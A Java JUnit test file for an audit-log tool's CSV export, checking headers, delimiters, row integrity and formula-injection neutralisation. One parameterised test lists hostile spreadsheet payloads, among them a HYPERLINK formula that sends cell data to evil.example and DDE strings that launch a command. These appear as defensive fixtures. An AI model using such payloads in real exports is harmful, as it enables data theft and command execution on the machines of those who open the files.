package io.graphqlaudit.admin.export;

import static io.graphqlaudit.admin.testing.ViewServer.NOW;
import static org.assertj.core.api.Assertions.assertThat;

import io.graphqlaudit.admin.testing.Answer;
import io.graphqlaudit.admin.testing.CsvCells;
import io.graphqlaudit.admin.testing.Samples;
import io.graphqlaudit.admin.web.Json;
import io.graphqlaudit.event.AuditEvent;
import io.graphqlaudit.event.EventKind;
import io.graphqlaudit.event.Result;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The log as rows. */
@Tag("views")
class CsvExportTest {
    private static final String HEAD =
            "record,position,id,kind,received,completed,application,node,actor_type,user_id,email,on_behalf_of,ip,peer_ip,"
                    + "user_agent,operation_type,operation,claimed_name,operation_text,variables,field,operation_event,"
                    + "export_model,export_rows,action,resource,target,target_name,targets,outcome,http_status,"
                    + "error_codes,request_id,trace_id,session,anomalies,details";

    private ExportServer server;

    @BeforeEach
    void start() throws Exception {
        server = new ExportServer();
    }

    @AfterEach
    void stop() throws Exception {
        server.close();
    }

    @Test
    void hasAHeadARowForEachEventAndATrailer() throws Exception {
        AuditEvent operation = Samples.operation(NOW, "ada@example.com");
        server.store(operation, Samples.export(NOW, "churn", 12));

        Answer answer = server.whole("format=csv");

        assertThat(answer.mediaType()).isEqualTo("text/csv");
        assertThat(answer.headers().firstValue("Content-Type").orElseThrow().toLowerCase(Locale.ROOT))
                .contains("charset=utf-8");
        assertThat(answer.headers().firstValue("Content-Disposition").orElseThrow())
                .endsWith(".csv\"");
        assertThat(answer.text()).startsWith(HEAD + "\r\nevent,1,").endsWith("\r\n");
        List<Map<String, String>> rows = rows(answer.text(), ',');
        assertThat(rows).hasSize(3);
        assertThat(rows.get(0))
                .containsEntry("record", "event")
                .containsEntry("position", "1")
                .containsEntry("id", operation.identity().id().toString())
                .containsEntry("kind", "OPERATION")
                .containsEntry("received", "2026-05-18T12:00:00.000000Z")
                .containsEntry("application", "shop")
                .containsEntry("email", "ada@example.com")
                .containsEntry("ip", "192.0.2.1")
                .containsEntry("operation_type", "MUTATION")
                .containsEntry("operation", "Delete")
                .containsEntry("claimed_name", "Forged")
                .containsEntry("operation_text", "mutation Delete { deleteModel(id: 1) { id } }")
                .containsEntry("variables", "{\"id\":1}")
                .containsEntry("outcome", "SUCCESS")
                .containsEntry("http_status", "200")
                .containsEntry("export_rows", "");
        assertThat(rows.get(1)).containsEntry("kind", "EXPORT").containsEntry("export_rows", "12");
        Map<String, Object> trailer = Json.object(rows.get(2).get("details").getBytes(StandardCharsets.UTF_8));
        assertThat(rows.get(2)).containsEntry("record", "trailer").containsEntry("position", "");
        assertThat(trailer).containsEntry("complete", true).containsEntry("count", 2);
    }

    @ParameterizedTest
    @CsvSource({"%2C,0x2c", "%3B,0x3b", "tab,0x09", "%09,0x09"})
    void takesAnotherDelimiter(String delimiter, String character) throws Exception {
        char expected = (char) Integer.decode(character).intValue();
        server.store(Samples.operation(NOW, "ada@example.com", "{ a, b; c\td }"));

        String text = server.whole("format=csv&delimiter=" + delimiter).text();

        assertThat(text).startsWith("record" + expected + "position" + expected);
        assertThat(rows(text, expected).get(0)).containsEntry("operation_text", "{ a, b; c\td }");
    }

    @Test
    void beginsWithAByteOrderMarkWhereOneIsAskedFor() throws Exception {
        assertThat(server.whole("format=csv&bom=true").text()).startsWith("\uFEFFrecord,");
        assertThat(server.whole("format=csv&bom=false").text()).startsWith("record,");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
                "=cmd|'/C calc'!A0",
                "+1+cmd|'/C calc'!A0",
                "-2+3",
                "@SUM(1+1)*cmd|'/C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "'=1+1",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20SUM(1)",
                "=1+1\";=2+2,=3+3",
            })
    void letsNothingBeAFormulaAndNothingBeLost(String hostile) throws Exception {
        server.store(Samples.login(NOW, hostile + "@example.com", Result.FAILURE));

        String text = server.whole("format=csv").text();
        String email = rows(text, ',').get(0).get("email");
        String stored = String.valueOf(((Map<?, ?>) server.lines("").get(0).get("actor")).get("email"));

        // The store neutralises some characters itself.
        assertThat(stored).endsWith("@example.com");
        if ("=+-@\t\r\n'\uFF1D\uFF0B\uFF0D\uFF20".indexOf(stored.charAt(0)) >= 0) {
            assertThat(email).isEqualTo("'" + stored);
        } else {
            assertThat(email).isEqualTo(stored);
        }
    }

    @Test
    void guardsEveryColumnThatHoldsTextOfOthers() throws Exception {
        AuditEvent event = Samples.recorded(EventKind.ACTION, NOW, "=action()");
        server.store(event, Samples.in("=application()", Samples.operation(NOW, "=email()", "=text()")));

        List<List<String>> cells = CsvCells.of(server.whole("format=csv").text(), ',');

        assertThat(cells).hasSize(4);
        assertThat(cells.stream().flatMap(List::stream).filter(cell -> cell.contains("()")))
                .hasSize(4)
                .allMatch(cell -> cell.startsWith("'="));
    }

    @Test
    void keepsRowsTogetherWhateverStandsInThem() throws Exception {
        String text = "query {\r\n  a(b: \"c,\\\"d\\\"\")\n}\n";
        server.store(Samples.operation(NOW, "ada@example.com", text), Samples.operation(NOW, "alan@example.com"));

        List<Map<String, String>> rows = rows(server.whole("format=csv").text(), ',');

        assertThat(rows).hasSize(3);
        assertThat(rows.get(0)).containsEntry("operation_text", text);
        assertThat(rows.get(1)).containsEntry("email", "alan@example.com");
    }

    private static List<Map<String, String>> rows(String text, char delimiter) {
        List<List<String>> cells = CsvCells.of(text, delimiter);
        List<Map<String, String>> rows = new ArrayList<>();
        for (List<String> row : cells.subList(1, cells.size())) {
            assertThat(row).hasSameSizeAs(cells.get(0));
            Map<String, String> named = new LinkedHashMap<>();
            for (int i = 0; i < row.size(); i++) {
                named.put(cells.get(0).get(i), row.get(i));
            }
            rows.add(named);
        }
        return rows;
    }
}
